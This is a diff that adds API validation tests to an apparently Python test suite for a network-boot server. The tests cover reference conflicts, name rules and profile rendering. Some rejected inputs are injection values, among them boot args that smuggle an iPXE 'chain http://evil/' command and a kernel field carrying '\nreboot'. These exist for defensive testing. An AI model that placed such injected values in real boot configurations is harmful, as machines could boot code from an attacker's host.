@@ -350,6 +350,117 @@ def test_ipxe_enrollment(state):
     ok("neither a MAC address nor a UUID" in text, "provision: a machine with no identity is refused", text)
 
 
+def err_names(r, *names):
+    """The error of r names each of names."""
+    e = r.json.get("error", "") if isinstance(r.json, dict) else ""
+    return all(n in e for n in names)
+
+
+def test_references():
+    """Clients, profiles and images checked against each other (issue 14, bug 3)."""
+    r = req("POST", "/api/v1/clients", {"name": "dup-mac", "mac": ["52-54-00-12-34-56"]})
+    ok(r.status == 409 and isinstance(r.json, dict) and r.json.get("field") == "mac" and err_names(r, "pc1"),
+       "clients: a MAC another client has is 409 naming it", r)
+    r = req("POST", "/api/v1/clients", {"name": "dup-uuid", "uuid": UUID.upper()})
+    ok(r.status == 409 and isinstance(r.json, dict) and r.json.get("field") == "uuid" and err_names(r, "pc1"),
+       "clients: a UUID another client has is 409 naming it", r)
+    r = req("POST", "/api/v1/clients", {"name": "dup-uuid", "uuid": UUID_SWAPPED})
+    ok(r.status == 409 and isinstance(r.json, dict) and r.json.get("field") == "uuid" and err_names(r, "pc1"),
+       "clients: the same UUID in the other byte order is 409 too", r)
+    ok(req("GET", "/api/v1/clients/dup-mac").status == 404, "clients: the refused one is not recorded")
+    expect("clients: a profile that does not exist is 400",
+           req("POST", "/api/v1/clients", {"name": "dangle1", "profile": "nope"}), 400, "profile")
+    expect("clients: an image that does not exist is 400",
+           req("POST", "/api/v1/clients", {"name": "dangle2", "profile": "local", "image": "nope"}), 400, "image")
+
+    r = req("DELETE", "/api/v1/profiles/live")
+    ok(r.status == 409 and err_names(r, "boot-menu"), "profiles: deleting a menu's item is 409 naming the menu", r)
+    r = req("DELETE", "/api/v1/profiles/plain-disk")
+    ok(r.status == 409 and err_names(r, "pc3"), "profiles: deleting a client's profile is 409 naming it", r)
+    r = req("DELETE", "/api/v1/profiles/disk")
+    ok(r.status == 409 and err_names(r, "default_profile", "mac-525400aabb03"),
+       "profiles: deleting the default profile is 409 naming the setting and the clients", r)
+    ok(req("GET", "/api/v1/profiles/live").status == 200, "profiles: the refused one is still there")
+    expect("profiles: an unused one", req("POST", "/api/v1/profiles", {"name": "spare", "kind": "local"}), 201)
+    expect("profiles: an unused one is deleted", req("DELETE", "/api/v1/profiles/spare"), 204)
+
+    expect("images: an image a client names", req("POST", "/api/v1/images", {"name": "pc9-disk", "size_bytes": MiB}), 201)
+    expect("clients: pc9 names it", req("POST", "/api/v1/clients", {"name": "pc9", "profile": "local",
+                                                                   "image": "pc9-disk"}), 201)
+    r = req("DELETE", "/api/v1/images/pc9-disk")
+    ok(r.status == 409 and err_names(r, "pc9"), "images: deleting a client's image is 409 naming it", r)
+    r = req("DELETE", "/api/v1/images/gold")
+    ok(r.status == 409 and err_names(r, "golden_image"), "images: deleting the golden image is 409 naming the setting", r)
+    ok(req("GET", "/api/v1/images/pc9-disk").status == 200, "images: the refused one is still there")
+
+
+def test_rendered_at_creation():
+    """Every profile is rendered (iPXE and pxelinux) when created (issue 14, bugs 3 and args)."""
+    bad = [
+        ({"name": "b1", "kind": "linux", "kernel": "k", "args": "quiet\nchain http://evil/"}, "args",
+         "args with a newline"),
+        ({"name": "b2", "kind": "linux", "kernel": "debian/12/linux\nreboot"}, "kernel", "a kernel with a newline"),
+        ({"name": "b3", "kind": "chain"}, "url", "a chain profile without url"),
+        ({"name": "b4", "kind": "linux", "args": "quiet"}, "kernel", "a linux profile without kernel"),
+        ({"name": "b5", "kind": "menu", "items": [{"profile": "live", "key": "${x}"}]}, "items", "a menu key ${x}"),
+        ({"name": "b6", "kind": "menu", "timeout_ms": -5, "items": [{"profile": "live"}]}, "timeout_ms",
+         "timeout_ms -5"),
+        ({"name": "b7", "kind": "menu", "timeout_ms": "5", "items": [{"profile": "live"}]}, "timeout_ms",
+         "timeout_ms not a number"),
+        ({"name": "b8", "kind": "linux", "kernel": 5}, "kernel", "a kernel that is not text"),
+        ({"name": "b9", "kind": "linux", "kernel": "k", "initrds": "i"}, "initrds", "initrds not a list"),
+        ({"name": "b10", "kind": "iso"}, "image", "an iso profile without image"),
+        ({"name": "b11", "kind": "winpe", "wimboot": "w"}, "files", "a winpe profile without files"),
+        ({"name": "b12", "kind": "chain", "url": "http://x/a b"}, "url", "a chain url with a space"),
+        ({"name": "b13", "kind": "local", "title": 7}, "title", "a title that is not text"),
+    ]
+    for tok in ["||", "&&", ";", "#", "${"]:
+        bad.append(({"name": "t" + str(len(bad)), "kind": "linux", "kernel": "k",
+                     "args": "quiet %s reboot" % tok}, "args", "args with %s and no raw_ipxe" % tok))
+    bad.append(({"name": "r1", "kind": "linux", "kernel": "k", "args": "x", "raw_ipxe": "yes"}, "raw_ipxe",
+                "raw_ipxe not a boolean"))
+    for body, field, what in bad:
+        r = req("POST", "/api/v1/profiles", body)
+        ok(r.status == 400 and isinstance(r.json, dict) and r.json.get("field") == field and len(r.json.get("error", "")) > 10,
+           f"profiles: refused at creation: {what} (400, {field})", r)
+    r = req("POST", "/api/v1/profiles", {"name": "raw", "kind": "linux", "kernel": "debian/12/linux", "raw_ipxe": True,
+                                         "args": "console=ttyS0 BOOTIF=01-${net0/mac:hexhyp}"})
+    ok(r.status == 201 and isinstance(r.json, dict) and r.json.get("raw_ipxe") is True, "profiles: raw_ipxe: true lets args use ${...}", r)
+    r = req("GET", "/api/v1/profiles")
+    ok(r.status == 200 and not [p for p in r.json["profiles"] if p["name"][0] in "bt" and p["name"][1:].isdigit()],
+       "profiles: none of the refused ones was stored", r)
+
+
+def test_names_and_limits():
+    """One name rule, values over limits refused, never cut (issue 14, bug 5)."""
+    for name in [".", "..", "-x", "_x", "a/b", "Upper", "a_b", "a" * 65, ""]:
+        expect(f"clients: name {name[:10]!r} refused", req("POST", "/api/v1/clients", {"name": name}), 400, "name")
+        expect(f"profiles: name {name[:10]!r} refused",
+               req("POST", "/api/v1/profiles", {"name": name, "kind": "local"}), 400, "name")
+    expect("images: name 'a_b' refused (the one rule)",
+           req("POST", "/api/v1/images", {"name": "a_b", "size_bytes": 512}), 400, "name")
+    expect("labels: a value that is not text", req("POST", "/api/v1/clients", {"name": "l1", "labels": {"a": 1}}),
+           400, "labels")
+    expect("labels: a key the name rule refuses",
+           req("POST", "/api/v1/clients", {"name": "l2", "labels": {"-x": "y"}}), 400, "labels")
+    expect("labels: a value with a newline",
+           req("POST", "/api/v1/clients", {"name": "l3", "labels": {"a": "b\nc"}}), 400, "labels")
+    big = {"k%d" % i: "v" * 100 for i in range(50)}
+    r = req("POST", "/api/v1/clients", {"name": "l4", "labels": big})
+    ok(r.status == 400 and isinstance(r.json, dict) and r.json.get("field") == "labels" and "profile" not in r.json.get("error", ""),
+       "labels: over 4 KiB is 400 about the labels", r)
+    expect("selectors: a key the name rule refuses",
+           req("POST", "/api/v1/profiles", {"name": "s9", "kind": "local", "selector": {"-x": "y"}}), 400, "selector")
+    expect("clients: a 300-character serial is refused, not cut",
+           req("POST", "/api/v1/clients", {"name": "s300", "serial": "S" * 300}), 400, "serial")
+    expect("clients: a serial with a newline", req("POST", "/api/v1/clients", {"name": "snl", "serial": "a\nb"}),
+           400, "serial")
+    r = req("POST", "/api/v1/clients", {"name": "s127", "serial": "S" * 127, "labels": {"room": "b12"}})
+    ok(r.status == 201 and r.json["serial"] == "S" * 127, "clients: a 127-character serial is kept whole", r)
+    for name in ["l1", "l2", "l3", "l4", "s300", "snl"]:
+        ok(req("GET", "/api/v1/clients/" + name).status == 404, f"clients: refused {name} not recorded")
+
+
 def main():
     tmp = tempfile.mkdtemp(prefix="bootsand-boot-test.")
     state = os.path.join(tmp, "state")
@@ -364,6 +475,9 @@ def main():
             test_settings()
             test_pxelinux()
             test_ipxe_enrollment(state)
+            test_references()
+            test_rendered_at_creation()
+            test_names_and_limits()
             ok(t.D.alive(), "bootsand is still running")
             rc = t.D.stop()
             ok(rc == 0, "it stops cleanly", f"status {rc}\n" + t.D.logtext()[-3000:])
